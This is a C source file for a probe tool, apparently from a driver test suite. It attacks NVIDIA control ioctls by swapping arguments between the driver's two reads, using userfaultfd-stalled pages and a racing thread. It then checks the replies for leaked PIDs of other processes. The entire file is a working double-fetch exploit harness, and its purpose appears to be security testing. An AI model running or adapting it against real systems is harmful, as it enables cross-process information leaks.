// SPDX-License-Identifier: GPL-2.0 OR MIT
/*
 * A hostile caller: after the engine has read the argument, the driver reads another one. `fault` puts part of the argument on a missing page
 * (userfaultfd), and changes the rest before it supplies the page. `race` has a thread that changes the argument all the time.
 * nvattack tries every control with process ids, and searches every returned word for the given numbers.
 *
 * Prints a line for each try: `row NAME claim CLAIM calls N accepted M found F`, and ` as PID` with the first one found. Exit 0: nothing
 * found; 1: something found; 2: usage, or no device.
 */
#define _GNU_SOURCE
#include <getopt.h>

#include "nvmemory.h"
#include "nvrows.h"

static uint8_t *params, *decoy; /* BUFFER bytes each */
static struct nv_way way;

/* The argument that the engine reads first. */
struct claim {
	const char *name;
	uint32_t cmd, size; /* cmd 0: a harmless control, 1: the row's; size 0: the row's */
};

static const struct claim claims[] = {
	{ "harmless", 0, 0 }, { "pids", GET_PIDS, 3812 }, { "elsewhere", 1, 0 },
};
#define CLAIMS (sizeof(claims) / sizeof(claims[0]))

static struct nv_control_arg real_argument(const struct row *row)
{
	return (struct nv_control_arg){ session.client, handle(row->object), row->cmd, 0, (uintptr_t)params, row->size, 0xdead };
}

static struct nv_control_arg claimed_argument(const struct row *row, const struct claim *claim)
{
	struct nv_control_arg arg = real_argument(row);

	arg.cmd = !claim->cmd ? harmless(row->object) : claim->cmd == 1 ? row->cmd : claim->cmd;
	arg.size = claim->size ? claim->size : row->size;
	arg.params = (uintptr_t)decoy;
	return arg;
}

static void prepare(const struct row *row)
{
	memset(params, 0, BUFFER);
	memset(decoy, 0, BUFFER);
	memset(inner, 0, BUFFER);
	row->fill(params, row);
	/* A look-up without PIDs returns no process, but a list needs its class. */
	if (!row->figures)
		row->fill(decoy, row);
}

static uint32_t number_in(const uint8_t *p)
{
	unsigned i, f;

	for (i = 0; i < BUFFER; i += 4) {
		uint32_t word = *(const volatile uint32_t *)(p + i);

		for (f = 0; word && f < foreign_count; f++)
			if (word == foreign[f])
				return word;
	}
	return 0;
}

/* The first foreign number in the answer, or the number of a foreign process that the answer has figures of. */
static uint32_t foreign_number(const struct row *row)
{
	uint64_t figures;
	uint32_t pid;
	unsigned i;

	if (!row->figures) {
		pid = number_in(params);
		if (!pid)
			pid = number_in(decoy);
		return pid ? pid : number_in(inner);
	}
	for (i = 0; i < (row->cmd == 0xb03 ? 1 : foreign_count); i++) {
		memcpy(&figures, params + row->figures + i * (row->size - 8) / 200, 8);
		if (figures)
			return foreign[i];
	}
	return 0;
}

static int report(const struct row *row, const char *claim, unsigned long calls, unsigned long accepted, unsigned long hits,
		  uint32_t pid)
{
	printf("row %s claim %s calls %lu accepted %lu found %lu", row->name, claim, calls, accepted, hits);
	if (hits)
		printf(" as %u", pid);
	printf("\n");
	fflush(stdout);
	return hits != 0;
}

/* --- by a fault --- */

/* Whether to wait for a line of standard input before the attack, and again before supplying the page. */
static bool late;

static void wait_for_line(void)
{
	char one;

	do {
		if (read(STDIN_FILENO, &one, 1) != 1)
			nv_die("nvattack: no line on standard input", -EPIPE);
	} while (one != '\n');
}

/*
 * Two pages, of which the first is missing. The argument's first eight bytes are at the end of the first page, the rest is on the second.
 * `given` is the content that the first page gets.
 */
static struct {
	int fd;
	uint8_t *pages, *given;
	volatile uint8_t *second;
	uint8_t after[24]; /* written to the second page before the first is supplied */
	volatile unsigned faults;
} uffd_block;

static void *supply_page(void *unused)
{
	struct uffd_msg message;

	while (read(uffd_block.fd, &message, sizeof(message)) == sizeof(message)) {
		struct uffdio_copy copy = { .dst = (uintptr_t)uffd_block.pages, .src = (uintptr_t)uffd_block.given, .len = PAGE };
		unsigned i;

		if (late)
			wait_for_line();
		for (i = 0; i < sizeof(uffd_block.after); i++)
			uffd_block.second[i] = uffd_block.after[i];
		uffd_block.faults++;
		ioctl(uffd_block.fd, UFFDIO_COPY, &copy);
	}
	return unused;
}

static void make_uffd_block(void)
{
	uffd_block.pages = missing_memory(2 * PAGE, PAGE, &uffd_block.fd);
	uffd_block.given = aligned_alloc(PAGE, PAGE);
	nv_check(uffd_block.given, "nvattack: a page", -ENOMEM);
	memset(uffd_block.given, 0, PAGE);
	uffd_block.second = uffd_block.pages + PAGE;
	nv_thread(supply_page, NULL);
}

/* A block whose first eight bytes are missing. The rest is `before` until the missing bytes are read, and `after` from then on. */
static void *place_argument(const void *before, const void *after, size_t size)
{
	if (madvise(uffd_block.pages, PAGE, MADV_DONTNEED))
		nv_die("nvattack: madvise", -errno);
	memcpy((void *)uffd_block.second, (const uint8_t *)before + 8, size - 8);
	memcpy(uffd_block.after, (const uint8_t *)after + 8, size - 8);
	memcpy(uffd_block.given + PAGE - 8, after, 8);
	return uffd_block.pages + PAGE - 8;
}

static int by_fault(const struct row *row, const struct claim *claim, bool wrapping)
{
	struct nv_control_arg false_arg = claimed_argument(row, claim), true_arg = real_argument(row);
	uint32_t pid = 0;
	unsigned faults = uffd_block.faults;
	int rc;

	prepare(row);
	if (wrapping) {
		/* The wrapping is what changes: it points to one argument, then to another. */
		struct nv_xfer_arg before = { 0x2a, sizeof(false_arg), (uintptr_t)&false_arg };
		struct nv_xfer_arg after = { 0x2a, sizeof(true_arg), (uintptr_t)&true_arg };

		rc = ioctl(ctl, nv_ioc(211, sizeof(before), &way), place_argument(&before, &after, sizeof(before)));
	} else {
		rc = nv_control_send(ctl, place_argument(&false_arg, &true_arg, sizeof(false_arg)), &way);
		memcpy(&true_arg, uffd_block.pages + PAGE - 8, sizeof(true_arg));
	}
	if (uffd_block.faults == faults)
		nv_die("nvattack: no call touched the missing page", -EIO);
	pid = foreign_number(row);
	return report(row, claim->name, 1, rc == 0 && true_arg.status == 0, pid != 0, pid);
}

/* --- by a race --- */

static struct {
	volatile struct nv_control_arg arg;
	struct nv_control_arg false_args[CLAIMS], true_arg;
	const struct row *row;
	volatile int stop;
	volatile uint32_t seen;
	volatile unsigned long hits;
} race;

static void *exchange_thread(void *unused)
{
	unsigned turn = 0, i;

	while (!race.stop) {
		const struct nv_control_arg *next = turn++ & 1 ? &race.true_arg : &race.false_args[turn / 2 % CLAIMS];

		race.arg.cmd = next->cmd;
		race.arg.size = next->size;
		race.arg.params = next->params;
		for (i = 0; i < turn % 61; i++)
			breathe();
	}
	return unused;
}

static void *look_thread(void *unused)
{
	while (!race.stop) {
		uint32_t pid = foreign_number(race.row);

		if (pid) {
			race.seen = pid;
			race.hits++;
		}
	}
	return unused;
}

static int by_race(const struct row *row, double seconds)
{
	unsigned long calls = 0, accepted = 0, hits = 0;
	double end = now() + seconds;
	uint32_t pid = 0, one;
	pthread_t thread[2];
	unsigned i;

	race.row = row;
	race.stop = 0;
	race.hits = 0;
	race.true_arg = real_argument(row);
	for (i = 0; i < CLAIMS; i++)
		race.false_args[i] = claimed_argument(row, &claims[i]);
	memcpy((void *)&race.arg, &race.true_arg, sizeof(race.true_arg));
	prepare(row);
	thread[0] = nv_thread(exchange_thread, NULL);
	thread[1] = nv_thread(look_thread, NULL);
	do {
		int rc;

		prepare(row);
		race.arg.status = 0xdead;
		rc = nv_control_send(ctl, (struct nv_control_arg *)&race.arg, &way);
		calls++;
		accepted += rc == 0 && race.arg.status == 0;
		one = foreign_number(row);
		hits += one != 0;
		pid = one ? one : pid;
	} while (now() < end);
	race.stop = 1;
	for (i = 0; i < 2; i++)
		pthread_join(thread[i], NULL);
	return report(row, "all", calls, accepted, hits + race.hits, pid ? pid : race.seen);
}

static void usage(FILE *to)
{
	fputs("usage: nvattack [--xfer] [--late] [--seconds S] fault|wrapping|race PID...\n"
	      "  fault      the argument begins on a missing page; nvattack changes the rest before it supplies the page\n"
	      "  wrapping   the same with XFER's wrapper\n"
	      "             --late: one try; a line on standard input starts it, another one supplies the page\n"
	      "  race       a thread changes the argument during the calls, for S seconds (0.3) of each row\n"
	      "PID...: numbers that no answer may have; the controls for single processes name them.\n",
	      to);
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{ "xfer", 0, NULL, 'x' }, { "late", 0, NULL, 'l' }, { "seconds", 1, NULL, 's' },
		{ "help", 0, NULL, 'h' }, { NULL, 0, NULL, 0 },
	};
	const char *what;
	double seconds = 0.3;
	int o, any = 0;
	unsigned r, c;

	while ((o = getopt_long(argc, argv, "+", options, NULL)) != -1) {
		switch (o) {
		case 'x': way.xfer = 1; break;
		case 'l': late = true; break;
		case 's': seconds = strtod(optarg, NULL); break;
		case 'h': usage(stdout); return 0;
		default: usage(stderr); return 2;
		}
	}
	if (argc - optind < 2 || argc - optind > 64) {
		usage(stderr);
		return 2;
	}
	what = argv[optind++];
	if (strcmp(what, "fault") && (late || (strcmp(what, "wrapping") && strcmp(what, "race")))) {
		usage(stderr);
		return 2;
	}
	while (optind < argc)
		foreign[foreign_count++] = strtoul(argv[optind++], NULL, 0);
	params = aligned_alloc(PAGE, BUFFER);
	decoy = aligned_alloc(PAGE, BUFFER);
	inner = aligned_alloc(PAGE, BUFFER);
	if (!params || !decoy || !inner)
		nv_die("nvattack: buffers", -ENOMEM);
	open_rows("nvattack: /dev/nvidiactl, client and objects", 1);
	if (strcmp(what, "race"))
		make_uffd_block();
	if (late) {
		printf("ready\n");
		fflush(stdout);
		wait_for_line();
		/* No driver translates this one by itself. */
		for (r = 0; strcmp(rows[r].name, "capture");)
			r++;
		return by_fault(&rows[r], &claims[0], false);
	}
	for (r = 0; r < ROWS; r++) {
		if (!strcmp(what, "race"))
			any |= by_race(&rows[r], seconds);
		for (c = 0; c < CLAIMS && strcmp(what, "race"); c++)
			any |= by_fault(&rows[r], &claims[c], !strcmp(what, "wrapping"));
	}
	return any;
}
